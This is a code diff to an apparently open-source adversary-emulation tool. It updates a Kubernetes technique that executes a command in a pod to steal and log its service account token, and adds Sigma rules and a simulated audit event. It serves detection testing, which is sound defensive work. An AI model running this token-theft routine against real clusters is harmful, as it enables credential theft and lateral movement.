@@ -3,20 +3,24 @@ package kubernetes
 import (
 	_ "embed"
 	"errors"
-	"github.com/datadog/stratus-red-team/internal/providers"
+	"github.com/datadog/stratus-red-team/internal/utils"
 	"github.com/datadog/stratus-red-team/pkg/stratus"
+	"github.com/datadog/stratus-red-team/pkg/stratus/logs"
 	"github.com/datadog/stratus-red-team/pkg/stratus/mitreattack"
 	"github.com/golang-jwt/jwt"
 	v1 "k8s.io/api/core/v1"
 	"k8s.io/client-go/kubernetes/scheme"
 	"k8s.io/client-go/tools/remotecommand"
-	"log"
+	"net/url"
 	"strings"
 )
 
 //go:embed main.tf
 var tf []byte
 
+//go:embed sigma.yml
+var sigma []byte
+
 //go:embed sample.pub
 var randomPublicKey []byte
 
@@ -78,19 +82,22 @@ Sample event (shortened):
 }
 ` + codeBlock + `
 `,
+		SigmaRules:                 sigma,
 		PrerequisitesTerraformCode: tf,
+		RequiredOutputs:            []string{"namespace", "pod_name"},
 		Detonate:                   detonate,
+		Simulate:                   simulate,
 	})
 }
 
-func detonate(params map[string]string) error {
-	config := providers.K8s().GetRestConfig()
-	client := providers.K8s().GetClient()
-	namespace := params["namespace"]
-	podName := params["pod_name"]
+func detonate(execution *stratus.ExecutionContext) error {
+	config := execution.K8s.GetRestConfig()
+	client := execution.K8s.GetClient()
+	namespace := execution.Parameters["namespace"]
+	podName := execution.Parameters["pod_name"]
 
-	log.Println("Stealing service account token from pod " + podName + " in namespace " + namespace)
-	log.Println("Running " + command)
+	execution.Logger.Println("Stealing service account token from pod " + podName + " in namespace " + namespace)
+	execution.Logger.Println("Running " + command)
 	req := client.CoreV1().RESTClient().Post().Namespace(namespace).Resource("pods").Name(podName).SubResource("exec")
 	req.VersionedParams(&execOptions, scheme.ParameterCodec)
 	exec, err := remotecommand.NewSPDYExecutor(config, "POST", req.URL())
@@ -104,9 +111,9 @@ func detonate(params map[string]string) error {
 		return errors.New("unable to execute command in pod: " + err.Error())
 	}
 
-	log.Println("Successfully executed command inside pod to steal its service account token")
+	execution.Logger.Println("Successfully executed command inside pod to steal its service account token")
 	serviceAccountToken := strings.TrimSpace(stdout.String())
-	log.Println(serviceAccountToken)
+	execution.Logger.Println(serviceAccountToken)
 	if !isValidServiceAccountToken(serviceAccountToken) {
 		return errors.New("stolen service account token is not a valid JWT")
 	}
@@ -148,3 +155,16 @@ func isValidServiceAccountToken(candidate string) bool {
 	_, ok = subjectClaim.(string)
 	return ok
 }
+
+// simulate generates the audit event of the command reading the service account token being executed in the pod
+func simulate(simulation *stratus.SimulationContext) []stratus.LogRecord {
+	event := logs.KubernetesAuditEvent(simulation, "create", logs.KubernetesObjectReference{
+		Resource:    "pods",
+		Namespace:   "stratus-red-team-" + utils.RandomString(8),
+		Name:        "stratus-red-team-sa-token",
+		Subresource: "exec",
+	}, nil)
+	query := url.Values{"command": strings.Split(command, " "), "container": {execOptions.Container}, "stdout": {"true"}}
+	event["requestURI"] = event["requestURI"].(string) + "?" + query.Encode()
+	return []stratus.LogRecord{event}
+}